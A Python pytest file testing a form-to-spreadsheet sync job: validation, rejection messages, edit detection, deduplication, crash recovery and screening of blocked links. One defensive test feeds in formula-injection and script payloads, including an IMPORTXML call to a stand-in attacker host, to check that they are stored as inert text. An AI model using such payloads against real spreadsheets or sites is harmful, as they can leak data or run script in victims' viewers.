"""sync-forms: every response lands once; accepted ones reach the queue, screened."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import load_workbook

from automation import crash
from automation.config import settings_from_dict
from automation.runner import run_job
from automation.store.xlsx import XlsxStore
from automation.workspace import build_workspace
from jobs.responses import FormResponse, edit_key, latest_by_id, row_response_id
from jobs.sync_forms import TABS, FormInputs, plan
from sheets_schema.forms import export_header
from sheets_schema.records import Changes, Snapshot, Update, frame_from_rows
from sheets_schema.settings import Settings
from sheets_schema.tabs import TABS as SCHEMA

TZ = ZoneInfo("Europe/London")
NOW = datetime(2026, 11, 24, 12, 0, tzinfo=TZ)
T0 = datetime(2026, 11, 24, 9, 0, tzinfo=TZ)
HEADER = export_header("submissions")


def make_settings(tmp_path: Path, forms: dict | None = None) -> Settings:
    return settings_from_dict(
        {
            "organisation": {
                "name": "Acme",
                "timezone": "Europe/London",
                "email_domains": ["example.org"],
            },
            "backend": {"kind": "local", "workbook": "workbook.xlsx"},
            "forms": forms
            if forms is not None
            else {"submissions": {"kind": "csv", "path": "forms/submissions.csv"}},
        },
        tmp_path / "chorus.toml",
    )


def submission(
    at: datetime = T0,
    email: str = "ann@example.org",
    headline: str = "Ann wins award",
    *,
    response_id: str = "",
    ordinal: int = 1,
    **answers: object,
) -> FormResponse:
    values = {
        "name": "Ann Lee",
        "content_type": "Employee award",
        "headline": headline,
        "details": "She won.",
        "link": "",
        "suggested_channels": ["LinkedIn"],
        "preferred_date": "",
        "permission": "Yes",
    }
    values.update(answers)  # type: ignore[arg-type]
    rid = response_id or row_response_id("submissions", at, email, ordinal)
    return FormResponse(
        rid, at, email, values, place=f"test {rid}", edit_key=edit_key("submissions", email, values)
    )  # type: ignore[arg-type]


def snapshot(**tabs: list[dict]) -> Snapshot:
    people = tabs.pop("People", [{"name": "Ann Lee", "email": "ann@example.org", "active": "Yes"}])
    frames = {name: frame_from_rows(name, tabs.get(name, [])) for name in TABS}
    frames["People"] = frame_from_rows("People", people)
    return Snapshot(frames)


def apply_in_memory(snap: Snapshot, changes: Changes) -> Snapshot:
    """What a store does with Changes, on plain rows: appends skip existing keys, expect guards updates."""
    rows = {name: snap[name].to_dict("records") for name in snap}
    for append in changes.appends:
        tab = SCHEMA[append.tab]
        key = tuple(str(append.row.get(k, "")).strip() for k in tab.key)
        if any(tuple(str(r[k]).strip() for k in tab.key) == key for r in rows[append.tab]):
            continue
        rows[append.tab].append({f: str(append.row.get(f, "") or "") for f in tab.fields})
    for update in changes.updates:
        tab = SCHEMA[update.tab]
        for row in rows[update.tab]:
            if tuple(str(row[k]).strip() for k in tab.key) != update.key:
                continue
            if all(str(row[f]).strip() == str(v).strip() for f, v in (update.expect or {}).items()):
                row.update({f: str(v or "") for f, v in update.values.items()})
    return Snapshot({name: frame_from_rows(name, rows[name]) for name in rows})


def run(snap: Snapshot, settings: Settings, *responses: FormResponse, **forms: list[FormResponse]):
    batches = {"submissions": list(responses), **forms}
    return plan(snap, NOW, settings, FormInputs(batches))


def test_an_accepted_submission_becomes_one_queue_item_with_every_field(tmp_path):
    settings = make_settings(tmp_path)
    r = submission(
        link="https://example.org/award", suggested_channels=["LinkedIn", "X"], content_type="Event"
    )
    result = run(snapshot(), settings, r)
    (queue,) = [a.row for a in result.changes.appends if a.tab == "Queue"]
    (row,) = [a.row for a in result.changes.appends if a.tab == "Submissions"]
    assert queue == {
        "id": "Q-0001",
        "created": "2026-11-24 09:00",
        "source_kind": "Staff & partners",
        "source_type": "Event",
        "headline": "Ann wins award",
        "details": "She won.",
        "link": "https://example.org/award",
        "channels": "LinkedIn, X",
        "flags": "",
        "submitted_by": "ann@example.org",
        "status": "New",
        "held_from": "",
        "origin": f"form:submissions:{r.response_id}",
    }
    assert row["status"] == "Accepted" and row["queue_id"] == "Q-0001" and row["reason"] == ""
    assert row["submitted_at"] == "2026-11-24 09:00:00"
    assert result.report.counts["submissions_accepted"] == 1


def test_queue_ids_continue_after_the_highest_existing_number(tmp_path):
    existing = [
        {"id": i, "source_kind": "Organisation", "headline": "x", "status": "New"}
        for i in ("Q-0041", "q-7", "X-99")
    ]
    result = run(
        snapshot(Queue=existing),
        make_settings(tmp_path),
        submission(),
        submission(T0 + timedelta(minutes=1), headline="b"),
    )
    assert [a.row["id"] for a in result.changes.appends if a.tab == "Queue"] == ["Q-0042", "Q-0043"]


def test_other_content_types_map_to_source_type_other(tmp_path):
    result = run(snapshot(), make_settings(tmp_path), submission(content_type="Podcast episode"))
    assert [a.row["source_type"] for a in result.changes.appends if a.tab == "Queue"] == ["Other"]


@pytest.mark.parametrize(
    ("response", "reason"),
    [
        (
            submission(email="ann@gmail.com"),
            "It came from ann@gmail.com, not from a work address (@example.org); please send it again from your work account.",
        ),
        (
            submission(headline=""),
            "It had no headline; please send it again with a one-line headline.",
        ),
        (
            submission(link="ftp://files.example.org/a.pdf"),
            'The link "ftp://files.example.org/a.pdf" is not a web page address (one that starts with https://); please copy the address from your browser and send it again.',
        ),
        (
            submission(
                email="",
                name="",
                content_type="",
                headline="",
                details="",
                suggested_channels=[],
                permission="",
            ),
            "The form arrived empty: none of its questions were answered.",
        ),
        (
            submission(email=""),
            "The form did not record who sent it, so we cannot reply; the form needs 'Collect email addresses' turned on.",
        ),
    ],
)
def test_rejected_submissions_get_a_reason_a_person_understands_and_no_queue_item(
    tmp_path, response, reason
):
    result = run(snapshot(), make_settings(tmp_path), response)
    (row,) = [a.row for a in result.changes.appends if a.tab == "Submissions"]
    assert (row["status"], row["reason"], row["queue_id"]) == ("Rejected", reason, "")
    assert not [a for a in result.changes.appends if a.tab == "Queue"]
    assert result.report.lines[0].startswith("rejected test ")


def test_an_unknown_submitter_is_a_flag_not_a_rejection(tmp_path):
    result = run(snapshot(), make_settings(tmp_path), submission(email="new.starter@example.org"))
    (queue,) = [a.row for a in result.changes.appends if a.tab == "Queue"]
    assert (
        queue["flags"]
        == "unknown submitter: new.starter@example.org is not in People; check who they are"
    )


def test_policy_flags_reach_the_queue_item(tmp_path):
    result = run(
        snapshot(),
        make_settings(tmp_path),
        submission(permission="No", details="Confidential: call 020 7946 0958"),
    )
    (queue,) = [a.row for a in result.changes.appends if a.tab == "Queue"]
    assert queue["flags"].split("; ")[0] == "confidential: mentions 'confidential'"
    assert "personal data: contains 020 7946 0958" in queue["flags"]
    assert "permission: the submitter said it may not be shared publicly" in queue["flags"]


def first_sync(settings: Settings, *responses: FormResponse) -> Snapshot:
    snap = snapshot()
    return apply_in_memory(snap, run(snap, settings, *responses).changes)


def test_a_forms_api_edit_updates_the_submission_and_the_untouched_queue_item(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(response_id="ACYDBNi"))
    edited = submission(
        T0 + timedelta(hours=1),
        headline="Ann wins national award",
        response_id="ACYDBNi",
        details="Bigger.",
    )
    result = run(snap, settings, edited)
    queue_update = next(u for u in result.changes.updates if u.tab == "Queue")
    assert queue_update.key == ("Q-0001",)
    assert queue_update.values["headline"] == "Ann wins national award"
    assert queue_update.values["details"] == "Bigger."
    assert not {"status", "scheduled_for", "notes", "reviewer"} & set(queue_update.values)
    assert queue_update.expect == {
        "headline": "Ann wins award",
        "details": "She won.",
        "link": "",
        "channels": "LinkedIn",
        "flags": "",
        "source_type": "Employee award",
        "status": "New",
    }
    sub_update = next(u for u in result.changes.updates if u.tab == "Submissions")
    assert (
        sub_update.key == ("ACYDBNi",)
        and sub_update.values["submitted_at"] == "2026-11-24 10:00:00"
    )
    assert not result.changes.appends
    after = apply_in_memory(snap, result.changes)
    assert after["Queue"].iloc[0]["headline"] == "Ann wins national award"


def test_an_edit_leaves_the_queue_item_alone_once_the_coordinator_changed_it(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(response_id="ACYDBNi"))
    queue = snap["Queue"].to_dict("records")
    queue[0]["status"] = "Approved"
    snap = Snapshot({**dict(snap.items()), "Queue": frame_from_rows("Queue", queue)})
    result = run(
        snap,
        settings,
        submission(T0 + timedelta(hours=1), headline="New words", response_id="ACYDBNi"),
    )
    assert [u.tab for u in result.changes.updates] == ["Submissions"]
    assert (
        "the coordinator had already changed Q-0001" in result.changes.updates[0].values["reason"]
    )


def test_a_queue_update_is_skipped_if_the_coordinator_edits_between_read_and_write(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(response_id="R1"))
    result = run(
        snap, settings, submission(T0 + timedelta(hours=1), headline="New words", response_id="R1")
    )
    queue = snap["Queue"].to_dict("records")
    queue[0]["headline"] = "Coordinator's better headline"
    meanwhile = Snapshot({**dict(snap.items()), "Queue": frame_from_rows("Queue", queue)})
    after = apply_in_memory(meanwhile, result.changes)
    assert after["Queue"].iloc[0]["headline"] == "Coordinator's better headline"


def test_an_edited_csv_row_is_recognised_by_same_person_and_headline(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission())
    edited = submission(
        T0 + timedelta(minutes=30), headline="ANN wins  award", details="She won gold."
    )
    result = run(snap, settings, edited)
    (row,) = [a.row for a in result.changes.appends if a.tab == "Submissions"]
    assert row["queue_id"] == "Q-0001" and row["status"] == "Accepted"
    assert (
        row["reason"]
        == "same person and headline as an earlier response: treated as an edit of Q-0001"
    )
    assert not [a for a in result.changes.appends if a.tab == "Queue"]
    (update,) = [u for u in result.changes.updates if u.tab == "Queue"]
    assert update.values["details"] == "She won gold."


def test_the_same_headline_again_after_the_item_was_published_is_a_new_item(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(headline="Monthly newsletter"))
    queue = snap["Queue"].to_dict("records")
    queue[0]["status"] = "Published"
    snap = Snapshot({**dict(snap.items()), "Queue": frame_from_rows("Queue", queue)})
    next_month = submission(
        T0 + timedelta(days=30), headline="Monthly newsletter", details="December issue"
    )
    result = run(snap, settings, next_month)
    (item,) = [a.row for a in result.changes.appends if a.tab == "Queue"]
    assert (item["id"], item["details"]) == ("Q-0002", "December issue")
    assert not result.changes.updates


def test_a_double_click_on_submit_makes_one_queue_item(tmp_path):
    result = run(
        snapshot(),
        make_settings(tmp_path),
        submission(),
        submission(T0 + timedelta(seconds=2), ordinal=2),
    )
    assert len([a for a in result.changes.appends if a.tab == "Submissions"]) == 2
    assert len([a for a in result.changes.appends if a.tab == "Queue"]) == 1


def test_acknowledgements_and_feedback_get_their_rows(tmp_path):
    ack = FormResponse(
        "A1",
        T0,
        "bo@example.org",
        {"agree": "I agree", "policy_version": "v2.1"},
        place="acks row 2",
    )
    fb = FormResponse(
        "F1",
        T0,
        "bo@example.org",
        {"section": "Tools", "text": "Add Bluesky", "contact": "Yes"},
        place="fb row 2",
    )
    result = run(snapshot(), make_settings(tmp_path), acknowledgements=[ack], feedback=[fb])
    rows = {a.tab: a.row for a in result.changes.appends}
    assert rows["Acknowledgements"] == {
        "response_id": "A1",
        "email": "bo@example.org",
        "policy_version": "2.1",
        "acknowledged_at": "2026-11-24 09:00:00",
    }
    assert rows["Feedback"] == {
        "response_id": "F1",
        "submitted_at": "2026-11-24 09:00:00",
        "email": "bo@example.org",
        "section": "Tools",
        "text": "Add Bluesky",
        "contact": "Yes",
        "status": "New",
    }


def test_new_items_arrive_on_hold_during_a_crisis(tmp_path):
    crises = [{"id": "C-001", "started": "2026-11-24 08:00", "reason": "outage"}]
    result = run(snapshot(Crises=crises), make_settings(tmp_path), submission())
    (queue,) = [a.row for a in result.changes.appends if a.tab == "Queue"]
    assert (queue["status"], queue["held_from"]) == ("On hold", "New")
    assert "crisis C-001 is active: 1 new item(s) put On hold" in result.report.lines


emails = st.sampled_from(
    ["ann@example.org", "bo@example.org", "x@gmail.com", "", "new@example.org"]
)
headlines = st.sampled_from(["Award", "award ", "Open day", "", "=SUM(1)"])
links = st.sampled_from(["", "https://example.org/a", "ftp://x", "see attached"])
random_responses = st.lists(
    st.builds(
        lambda minutes, email, headline, link, same_id: submission(
            T0 + timedelta(minutes=minutes),
            email,
            headline,
            link=link,
            response_id=f"api-{same_id}" if same_id else "",
        ),
        st.integers(0, 600),
        emails,
        headlines,
        links,
        st.sampled_from([0, 0, 1, 2]),
    ),
    max_size=12,
)


@hsettings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(first=random_responses, second=random_responses)
def test_syncing_any_batch_twice_changes_nothing_the_second_time(tmp_path, first, second):
    settings = make_settings(tmp_path)
    snap = apply_in_memory(snapshot(), run(snapshot(), settings, *first).changes)
    batch = first + second
    snap = apply_in_memory(snap, run(snap, settings, *batch).changes)
    again = run(snap, settings, *batch)
    assert not again.changes
    ids = list(snap["Submissions"]["response_id"])
    assert sorted(ids) == sorted({r.response_id for r in batch})
    queue_ids = list(snap["Queue"]["id"])
    assert len(queue_ids) == len(set(queue_ids))


# -- end to end through the local workbook ---------------------------------------


def write_export(tmp_path: Path, rows: list[list[str]]) -> None:
    import csv

    path = tmp_path / "forms" / "submissions.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows([HEADER, *rows])


def export_rows(n: int) -> list[list[str]]:
    start = datetime(2026, 11, 1, 8, 0)
    return [
        [
            (start + timedelta(minutes=i)).strftime("%d/%m/%Y %H:%M:%S"),
            f"p{i % 50}@example.org",
            f"Person {i}",
            "Event",
            f"Item {i}",
            f"Details {i}\nsecond line",
            "https://example.org/" + str(i),
            "LinkedIn, X",
            "",
            "Yes",
        ]
        for i in range(n)
    ]


def workspace_for(tmp_path: Path):
    settings = make_settings(tmp_path)
    XlsxStore(tmp_path / "workbook.xlsx").ensure_tabs()
    return build_workspace(settings)


def test_sync_forms_end_to_end_over_the_local_workbook_is_idempotent(tmp_path):
    write_export(
        tmp_path,
        [
            [
                "24/11/2026 10:15:32",
                "ann@example.org",
                "Ann",
                "Event",
                "Open day",
                "Come along",
                "https://example.org/open",
                "LinkedIn",
                "01/12/2026",
                "Yes",
            ],
            [
                "24/11/2026 10:20:00",
                "ann@gmail.com",
                "Ann",
                "Other",
                "From home",
                "x",
                "",
                "",
                "",
                "Yes",
            ],
        ],
    )
    first = run_job(workspace_for(tmp_path), "sync-forms", NOW)
    assert (
        first.ok
        and first.counts["submissions_accepted"] == 1
        and first.counts["submissions_rejected"] == 1
    )
    second = run_job(
        build_workspace(make_settings(tmp_path)), "sync-forms", NOW + timedelta(minutes=10)
    )
    assert second.ok and second.counts["unchanged"] == 2 and second.counts["queue_added"] == 0
    snap = XlsxStore(tmp_path / "workbook.xlsx").read(["Submissions", "Queue"])
    assert len(snap["Submissions"]) == 2 and len(snap["Queue"]) == 1
    assert (
        snap["Submissions"].set_index("email").loc["ann@example.org", "preferred_date"]
        == "2026-12-01"
    )
    assert snap["Queue"].iloc[0]["status"] == "New"


def test_formula_looking_text_arrives_inert_through_the_workbook(tmp_path):
    dangerous = [
        '=IMPORTXML("http://evil.example","//a")',
        "+SUM(1)",
        "@x",
        "-1+1",
        "<script>alert(1)</script>",
    ]
    write_export(
        tmp_path,
        [
            [
                f"24/11/2026 10:{i:02d}:00",
                "ann@example.org",
                text,
                "Event",
                text,
                text,
                "",
                "",
                "",
                "Yes",
            ]
            for i, text in enumerate(dangerous)
        ],
    )
    assert run_job(workspace_for(tmp_path), "sync-forms", NOW).ok
    snap = XlsxStore(tmp_path / "workbook.xlsx").read(["Queue"])
    assert sorted(snap["Queue"]["headline"]) == sorted(dangerous)
    sheet = load_workbook(tmp_path / "workbook.xlsx")["Queue"]
    cells = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(cell.value for cell in cells) == sorted(dangerous)


def test_store_calls_do_not_grow_with_the_number_of_responses(tmp_path):
    calls = []
    for n in (10, 1000):
        folder = tmp_path / str(n)
        folder.mkdir()
        write_export(folder, export_rows(n))
        result = run_job(workspace_for(folder), "sync-forms", NOW)
        assert result.counts["queue_added"] == n
        calls.append(result.api_calls)
    assert calls[0] == calls[1]


def test_a_broken_form_is_reported_and_the_others_still_sync(tmp_path):
    forms = {
        "submissions": {"kind": "csv", "path": "forms/submissions.csv"},
        "feedback": {"kind": "csv", "path": "forms/missing.csv"},
    }
    write_export(tmp_path, export_rows(3))
    XlsxStore(tmp_path / "workbook.xlsx").ensure_tabs()
    result = run_job(build_workspace(make_settings(tmp_path, forms)), "sync-forms", NOW)
    assert result.outcome == "problems"
    assert result.counts["queue_added"] == 3
    assert result.problems[0].startswith(
        "the feedback form was not read: forms/missing.csv: the form export is not there"
    )


KILL_SCRIPT = textwrap.dedent(
    """
    import sys
    from datetime import datetime
    from pathlib import Path
    from zoneinfo import ZoneInfo
    sys.path.insert(0, sys.argv[2])
    from tests.test_sync_forms import make_settings
    from automation.runner import run_job
    from automation.workspace import build_workspace
    result = run_job(build_workspace(make_settings(Path(sys.argv[1]))), "sync-forms",
                     datetime(2026, 11, 24, 12, tzinfo=ZoneInfo("Europe/London")))
    print(result.summary())
    """
)


@pytest.mark.slow
def test_a_sync_killed_mid_write_then_run_again_ends_with_every_response_once(tmp_path):
    n = 300
    write_export(tmp_path, export_rows(n))
    XlsxStore(tmp_path / "workbook.xlsx").ensure_tabs()
    repo = Path(__file__).resolve().parents[1]
    # Killed the moment the atomic save has written its temporary file (a named crash point).
    proc = subprocess.run(
        [sys.executable, "-c", KILL_SCRIPT, str(tmp_path), str(repo)],
        cwd=repo,
        env={**os.environ, crash.ENV: "xlsx.temp_saved"},
        capture_output=True,
        timeout=300,
    )
    assert proc.returncode == -signal.SIGKILL, "the sync finished before it could be killed"
    assert list(tmp_path.glob(".workbook.xlsx*.tmp"))  # the save was cut short
    store = XlsxStore(tmp_path / "workbook.xlsx")
    assert len(store.read(["Submissions"])["Submissions"]) in (0, n)  # all or nothing
    result = run_job(build_workspace(make_settings(tmp_path)), "sync-forms", NOW)
    assert result.ok
    snap = store.read(["Submissions", "Queue"])
    assert len(snap["Submissions"]) == n and snap["Submissions"]["response_id"].is_unique
    assert len(snap["Queue"]) == n and set(snap["Queue"]["id"]) == {
        f"Q-{i:04d}" for i in range(1, n + 1)
    }
    assert not list(tmp_path.glob(".workbook.xlsx*.tmp"))  # the next save replaced it


def test_updates_never_name_the_coordinators_fields(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(response_id="R1"))
    result = run(
        snap, settings, submission(T0 + timedelta(hours=2), headline="Changed", response_id="R1")
    )
    for update in result.changes.updates:
        assert isinstance(update, Update)
        if update.tab == "Queue":
            assert set(update.values) <= {
                "headline",
                "details",
                "link",
                "channels",
                "flags",
                "source_type",
            }


def older_chorus_id(r: FormResponse) -> str:
    """The id an earlier Chorus gave a CSV row: the time to the second and the answers hashed."""
    import hashlib
    import json
    from datetime import UTC

    stamp = r.submitted_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    payload = json.dumps(
        [
            "submissions",
            stamp,
            r.email.strip().lower(),
            sorted((k, v) for k, v in r.answers.items()),
        ],
        ensure_ascii=False,
        separators=(",", ":"),
    )
    return "row-" + hashlib.sha256(payload.encode("utf-8")).hexdigest()[:16]


def test_rows_an_older_chorus_synced_are_not_imported_again(tmp_path):
    settings = make_settings(tmp_path)
    response = submission(T0 + timedelta(seconds=32))
    snap = first_sync(
        settings, submission(response.submitted_at, response_id=older_chorus_id(response))
    )
    result = run(snap, settings, response)
    assert result.changes.appends == () and result.changes.updates == ()
    assert result.report.counts["unchanged"] == 1


def test_a_time_a_resave_rounded_up_to_the_next_minute_is_the_same_response(tmp_path):
    settings = make_settings(tmp_path)
    snap = first_sync(settings, submission(T0 + timedelta(seconds=32)))
    result = run(snap, settings, submission(T0 + timedelta(minutes=1)))
    assert result.changes.appends == () and result.changes.updates == ()


def test_an_edit_seconds_after_submitting_is_still_an_edit_of_that_row(tmp_path):
    settings = make_settings(tmp_path)
    first = submission(T0 + timedelta(seconds=5))
    snap = first_sync(settings, submission(first.submitted_at, response_id=older_chorus_id(first)))
    edited = submission(T0 + timedelta(seconds=50), details="She won the regional award.")
    result = run(snap, settings, edited)
    assert result.changes.appends == ()
    (sub_update, queue_update) = sorted(
        result.changes.updates, key=lambda u: u.tab != "Submissions"
    )
    assert sub_update.key == (older_chorus_id(first),)
    assert sub_update.values["details"] == "She won the regional award."
    assert queue_update.key == ("Q-0001",)
    assert queue_update.values["details"] == "She won the regional award."


def test_two_responses_of_one_person_in_one_minute_are_both_kept(tmp_path):
    settings = make_settings(tmp_path)
    one = submission(T0 + timedelta(seconds=10), headline="Ann wins award")
    two = submission(T0 + timedelta(seconds=40), headline="Bob runs marathon", ordinal=2)
    snap = first_sync(settings, one, two)
    assert sorted(snap["Submissions"]["headline"]) == ["Ann wins award", "Bob runs marathon"]
    # Re-saved without seconds, both read at 09:00: each pairs with its own row by headline.
    resaved = [
        submission(T0, headline="Bob runs marathon", response_id="row-resaved-b"),
        submission(T0, headline="Ann wins award", response_id="row-resaved-a"),
    ]
    result = run(snap, settings, *resaved)
    assert result.changes.appends == () and result.changes.updates == ()


def test_a_submission_linking_a_blocked_site_is_rejected_and_told_why(tmp_path):
    from automation.mail.compose import compose, message_parts
    from jobs import thanks

    settings = settings_from_dict(
        {
            "organisation": {
                "name": "Acme",
                "timezone": "Europe/London",
                "email_domains": ["example.org"],
            },
            "backend": {"kind": "local", "workbook": "workbook.xlsx"},
            "mail": {"sender": "social@example.org"},
            "screening": {"blocked_domains": ["gossip.example"]},
        },
        tmp_path / "chorus.toml",
    )
    in_link = submission(link="https://www.gossip.example/story")
    in_text = submission(
        T0 + timedelta(hours=1), headline="Read this", details="See http://gossip.example/x"
    )
    result = run(snapshot(), settings, in_link, in_text)
    rows = [a.row for a in result.changes.appends]
    assert [r["status"] for r in rows] == ["Rejected", "Rejected"]  # nothing queued
    assert rows[0]["reason"] == (
        "It links to www[.]gossip[.]example, a site our social media policy does not allow "
        "us to link to; please send it again without that link."
    )
    assert rows[0]["link"] == "hxxps://www[.]gossip[.]example/story"
    assert rows[1]["details"] == "See hxxp://gossip[.]example/x"

    (note, _) = thanks.plan(apply_in_memory(snapshot(), result.changes), NOW, settings).messages
    text, html, _ = message_parts(compose(note, settings, now=NOW))
    assert "It links to www[.]gossip[.]example, a site our social media" in text
    assert "gossip.example" not in text + html


def test_the_same_link_from_a_colleague_joins_the_item_on_its_way_instead_of_a_rejection(
    tmp_path,
):
    settings = make_settings(tmp_path)
    people = [
        {"name": "Ann Lee", "email": "ann@example.org", "active": "Yes"},
        {"name": "Bo Ray", "email": "bo@example.org", "active": "Yes"},
    ]
    snap = first_sync(
        settings, submission(headline="Great article", link="https://news.example/a?utm_source=x")
    )
    frames = dict(snap.items())
    frames["People"] = frame_from_rows("People", people)
    again = submission(
        T0 + timedelta(hours=2),
        email="bo@example.org",
        headline="Worth sharing",
        link="https://www.news.example/a/",
    )
    result = run(Snapshot(frames), settings, again)
    (row,) = [a.row for a in result.changes.appends if a.tab == "Submissions"]
    assert (row["status"], row["queue_id"]) == ("Accepted", "Q-0001")
    assert row["reason"].startswith("Merged:") and "Q-0001" not in row["reason"]
    assert not [a for a in result.changes.appends if a.tab == "Queue"]
    assert result.report.counts["submissions_merged"] == 1


@given(
    st.datetimes(
        datetime(1, 1, 2),
        datetime(9999, 12, 30),
        timezones=st.sampled_from([TZ, ZoneInfo("America/New_York"), ZoneInfo("Asia/Kolkata")]),
    ),
    st.sampled_from(["a@b.example", " Ann.Lee@Example.org ", 'odd"quote@x.example', "émile@x.fr"]),
)
def test_a_row_response_id_is_made_from_the_minute_in_utc_and_the_address(
    at: datetime, email: str
) -> None:
    # the id every earlier Chorus made for this response: a sheet's rows keep theirs
    utc = at.astimezone(UTC)
    minute = utc.strftime("%Y-%m-%dT%H:%MZ") if utc.year < 1000 else utc.isoformat()[:16] + "Z"
    payload = json.dumps(["submissions", minute, email.strip().lower()], separators=(",", ":"))
    expected = "row-" + hashlib.sha256(payload.encode()).hexdigest()[:16]
    assert row_response_id("submissions", at, email) == expected
    assert row_response_id("submissions", at, email, 2) == expected + "-2"


@given(st.lists(st.tuples(st.sampled_from("abcd"), st.integers(0, 5)), max_size=12))
def test_one_response_per_id_the_latest_in_time_order_ties_by_id(
    made: list[tuple[str, int]],
) -> None:
    responses = [
        FormResponse(rid, datetime(2027, 3, 1, 9, minute, tzinfo=TZ), "a@b.example")
        for rid, minute in made
    ]
    latest: dict[str, FormResponse] = {}
    for r in responses:
        if r.response_id not in latest or r.submitted_at > latest[r.response_id].submitted_at:
            latest[r.response_id] = r
    expected = sorted(latest.values(), key=lambda r: (r.submitted_at, r.response_id))
    assert latest_by_id(responses) == expected
